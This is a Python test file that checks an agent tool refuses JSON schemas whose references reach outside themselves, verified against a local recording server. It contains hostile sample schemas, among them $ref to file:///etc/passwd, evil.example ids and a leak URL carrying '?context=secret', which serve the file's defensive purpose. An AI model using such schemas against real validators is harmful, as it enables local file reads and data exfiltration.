"""No JSON schema Betty evaluates fetches anything: hostile ``result_schema`` documents against a recording server.

A local HTTP server on 127.0.0.1 records every request and serves a valid schema, so a
fetch would succeed and be seen; a ``file://`` target is a real schema file. Each hostile
schema must be refused in one line before anything runs, with no request made; schemas
whose references stay inside them keep working.
"""

from __future__ import annotations

import asyncio
import json
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile import AttackerHost
from llm_server import ScriptedLLM, Step, call, from_betty, respond, say

from betty_jupyter.agent.loop import Limits
from betty_jupyter.agent.session import SessionSpec, open_session
from betty_jupyter.agent.tasks import checked_answer
from betty_jupyter.config import BettyConfig
from betty_jupyter.errors import SchemaError, ToolError
from betty_jupyter.experiments.workspace import Workspace
from betty_jupyter.json_schema import MAX_DEPTH, first_problem, offline_registry, offline_validator
from betty_jupyter.wiki import init_workspace

SERVED = {"type": "string"}  # what a fetch would get: a schema that checks something


@pytest.fixture
def recorder() -> Iterator[AttackerHost]:
    host = AttackerHost(answer=SERVED)
    try:
        yield host
    finally:
        host.close()


@pytest.fixture
def schema_file(tmp_path: Path) -> str:
    path = tmp_path / "schemas" / "secret.json"
    path.parent.mkdir()
    path.write_text(json.dumps(SERVED))
    return path.as_uri()


def hostile_schemas(base: str, file_uri: str) -> list[tuple[dict[str, Any], str]]:
    """(schema, what the refusal must name): every way a schema could reach outside itself."""
    host = base.removeprefix("http://")
    return [
        ({"$ref": f"{base}/plain.json"}, f"'{base}/plain.json'"),
        ({"$ref": f"https://{host}/tls.json"}, "https://"),
        ({"$ref": f"//{host}/scheme-relative.json"}, "scheme-relative.json"),
        ({"$ref": f"{base}/pointer.json#/definitions/x"}, "pointer.json"),
        ({"$ref": file_uri}, "file://"),
        ({"$ref": "file:///etc/passwd"}, "/etc/passwd"),
        ({"$ref": "urn:uuid:6e8bc430-9c3a-11d9-9669-0800200c9a66"}, "urn:uuid"),
        ({"$id": f"{base}/dir/", "properties": {"a": {"$ref": "relative.json"}}}, f"{base}/dir/relative.json"),
        ({"$id": f"{base}/dir/root.json", "$ref": "../up.json"}, f"{base}/up.json"),
        ({"$defs": {"x": {"$id": f"{base}/inner/", "items": {"$ref": "deeper.json"}}}}, "deeper.json"),
        ({"$dynamicRef": f"{base}/dynamic.json#meta"}, "$dynamicRef"),
        ({"$schema": f"{base}/metaschema.json", "type": "object"}, "$schema"),
        ({"properties": {"a": {"$schema": f"{base}/m2.json", "$id": "urn:a"}}}, "m2.json"),
        ({"$defs": {"unused": {"$ref": f"{base}/unused.json"}}}, "unused.json"),
        ({"anyOf": [{"type": "null"}, {"not": {"$ref": f"{base}/not.json"}}]}, "not.json"),
        ({"prefixItems": [{"$ref": f"{base}/prefix.json"}], "contains": {"$ref": "#/prefixItems/0"}}, "prefix.json"),
        ({"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"a": {"$ref": f"{base}/d7.json"}},
          "properties": {"x": {"$ref": "#/definitions/a"}}}, "d7.json"),
        ({"$schema": "http://json-schema.org/draft-04/schema#", "id": f"{base}/d4/",
          "properties": {"x": {"$ref": "d4.json"}}}, f"{base}/d4/d4.json"),
        ({"$ref": "#/$defs/missing"}, "points to nothing"),
        ({"$anchor": "here", "$ref": "#there"}, "points to nothing"),
    ]


def hostile_ids(base: str = "http://127.0.0.1:1", file_uri: str = "file:///x") -> list[str]:
    return [str(i) for i in range(len(hostile_schemas(base, file_uri)))]


def test_the_recorder_sees_a_fetch_and_jsonschema_alone_would_fetch(recorder) -> None:
    """Without Betty's check a remote $ref is fetched: the threat is real and the recorder sees it."""
    from jsonschema import Draft202012Validator

    with urllib.request.urlopen(f"{recorder.url}/probe.json", timeout=10) as answer:
        assert json.load(answer) == SERVED
    with pytest.warns(DeprecationWarning, match="remote references"):
        errors = list(Draft202012Validator({"$ref": f"{recorder.url}/leak?context=secret"}).iter_errors(5))
    assert errors and recorder.paths == ["/probe.json", "/leak?context=secret"]


@pytest.mark.parametrize("index", hostile_ids())
def test_a_schema_reaching_outside_itself_is_refused_and_fetches_nothing(recorder, schema_file, index) -> None:
    schema, named = hostile_schemas(recorder.url, schema_file)[int(index)]
    with pytest.raises(SchemaError) as refused:
        offline_validator(schema)
    message = str(refused.value)
    assert named in message and "\n" not in message, message
    assert recorder.paths == []


@pytest.mark.parametrize("index", hostile_ids())
def test_even_an_unchecked_schema_cannot_fetch_through_the_offline_registry(recorder, schema_file, index) -> None:
    """Defence in depth: a validator on the offline registry refuses retrieval when it meets the reference."""
    from jsonschema import Draft202012Validator

    schema, _ = hostile_schemas(recorder.url, schema_file)[int(index)]
    validator = Draft202012Validator(schema, registry=offline_registry())
    for value in (5, "text", {"a": 1, "x": 2}, [1, 2]):
        try:
            first_problem(validator, value)
        except SchemaError as refused:
            assert "\n" not in str(refused)
    assert recorder.paths == []


@pytest.mark.parametrize("schema, good, bad, problem", [
    ({"$defs": {"n": {"type": "integer"}}, "properties": {"n": {"$ref": "#/$defs/n"}}}, {"n": 1}, {"n": "x"},
     "n: 'x' is not of type 'integer'"),
    ({"$id": "https://evil.example/s", "$defs": {"n": {"type": "integer"}}, "items": {"$ref": "#/$defs/n"}},
     [1], ["x"], "0: 'x' is not of type 'integer'"),
    ({"$id": "file:///etc/passwd", "$ref": "#/$defs/s", "$defs": {"s": {"type": "string"}}}, "a", 1,
     "the value: 1 is not of type 'string'"),
    ({"$defs": {"s": {"$id": "urn:betty:inner", "type": "string"}}, "items": {"$ref": "urn:betty:inner"}},
     ["a"], [1], "0: 1 is not of type 'string'"),
    ({"$anchor": "top", "properties": {"child": {"$ref": "#top"}}, "required": ["k"]}, {"k": 1, "child": {"k": 2}},
     {"k": 1, "child": {}}, "child: 'k' is a required property"),
    ({"$dynamicAnchor": "node", "type": "object", "properties": {"next": {"$dynamicRef": "#node"}}},
     {"next": {}}, {"next": 3}, "next: 3 is not of type 'object'"),
    ({"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"b": {"type": "boolean"}},
      "properties": {"oom": {"$ref": "#/definitions/b"}}}, {"oom": True}, {"oom": "yes"},
     "oom: 'yes' is not of type 'boolean'"),
    ({"$ref": "https://json-schema.org/draft/2020-12/schema"}, {"type": "string"}, {"type": 5}, "type: 5 is not"),
    ({"const": {"$ref": "http://evil.example/data"}}, {"$ref": "http://evil.example/data"}, {}, "was expected"),
    ({"properties": {"$ref": {"type": "string"}}}, {"$ref": "x"}, {"$ref": 1}, "$ref: 1 is not of type"),
])
def test_references_inside_the_schema_still_work(recorder, schema, good, bad, problem) -> None:
    validator = offline_validator(schema)
    assert first_problem(validator, good) is None
    found = first_problem(validator, bad, "the value")
    assert found is not None and problem in found, found
    assert recorder.paths == []


@pytest.mark.parametrize("schema, words", [
    ("not a schema", "a JSON schema is an object"),
    ([{"type": "string"}], "a JSON schema is an object"),
    ({"type": 5}, "not a JSON schema"),
    ({"$schema": 7}, "$schema must be the URI"),
    ({"$schema": "https://json-schema.org/draft/2099-01/schema"}, "not a JSON Schema draft Betty knows"),
    ({"$ref": "#"}, "refers to itself without end"),
    ({"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"}, "without end"),
])
def test_malformed_schemas_are_one_line(schema, words) -> None:
    with pytest.raises(SchemaError) as refused:
        first_problem(offline_validator(schema), {"x": 1})
    assert words in str(refused.value) and "\n" not in str(refused.value)


def test_a_schema_nested_too_deep_is_refused_before_anything_recurses() -> None:
    deep: dict[str, Any] = {}
    inner = deep
    for _ in range(5000):
        inner["items"] = {}
        inner = inner["items"]
    with pytest.raises(SchemaError, match=f"nested more than {MAX_DEPTH} levels"):
        offline_validator(deep)
    fits: dict[str, Any] = {"type": "integer"}
    for _ in range(MAX_DEPTH // 2 - 1):
        fits = {"items": fits}
    assert first_problem(offline_validator(fits), 5) is None


def test_a_helpers_answer_checked_against_a_hostile_schema_fetches_nothing(recorder) -> None:
    with pytest.raises(ToolError, match="result_schema: .* is not inside the schema"):
        checked_answer('{"oom": true}', {"$ref": f"{recorder.url}/answer.json"})
    assert checked_answer('{"oom": true}', {"properties": {"oom": {"$ref": "#/$defs/b"}},
                                           "$defs": {"b": {"type": "boolean"}}}) == {"oom": True}
    assert recorder.paths == []


# ----- through the real tool: the model writes the schema ------------------------------------------

@pytest.mark.cluster
def test_delegate_tasks_with_a_hostile_result_schema_is_refused_before_any_helper_runs(
        recorder, schema_file, ssh_profile, tmp_path) -> None:
    init_workspace(tmp_path / "project")
    workspace = Workspace.at(tmp_path / "project")
    hostile = [schema for schema, _ in hostile_schemas(recorder.url, schema_file)]
    legit = {"type": "object", "required": ["pages"], "properties": {"pages": {"$ref": "#/$defs/count"}},
             "$defs": {"count": {"type": "integer", "minimum": 0}}}
    told: list[str] = []
    helpers: list[dict[str, Any]] = []

    def task(schema: dict[str, Any]) -> dict[str, Any]:
        return {"title": "count pages", "instructions": "How many pages does the index list?",
                "resources": [{"type": "wiki", "location": "index.md"}], "result_schema": schema}

    def model(request: dict[str, Any]) -> Step:
        if not from_betty(request):
            helpers.append(request)
            return say('{"pages": 3}')
        results = [m["content"] for m in request["messages"] if m["role"] == "tool"]
        told[:] = results
        if len(results) < len(hostile):
            return call("delegate_tasks", {"tasks": [task(hostile[len(results)])]})
        if len(results) == len(hostile):
            return call("delegate_tasks", {"tasks": [task(legit)]})
        return say("done")

    async def scenario(llm: ScriptedLLM) -> str:
        config = BettyConfig(clusters=[{**ssh_profile.to_dict(), "name": "betty-dev"}],
                             llm={"base_url": llm.base_url, "model": "scripted", "retry_base": 0.01, "max_retries": 1})
        session = await open_session(workspace, config, SessionSpec(mode="auto",
                                                                    limits=Limits(max_iterations=len(hostile) + 4)))
        try:
            return await session.ask("count the pages of the index, with a helper")
        finally:
            await session.context.close()

    with ScriptedLLM([respond(model) for _ in range(len(hostile) + 4)]) as llm:
        reason = asyncio.run(scenario(llm))
    assert llm.errors == [] and reason == "finished", llm.errors
    refusals, answered = told[:len(hostile)], told[len(hostile)]
    for text, (_, named) in zip(refusals, hostile_schemas(recorder.url, schema_file)):
        assert text.startswith("error: some values are missing or wrong — tasks.0.result_schema: "), text
        assert named in text and "\n" not in text
    assert len(helpers) == 1, "no helper ran for a refused schema"
    assert '"pages": 3' in answered and "1 of 1 task(s) answered" in answered
    assert recorder.paths == []
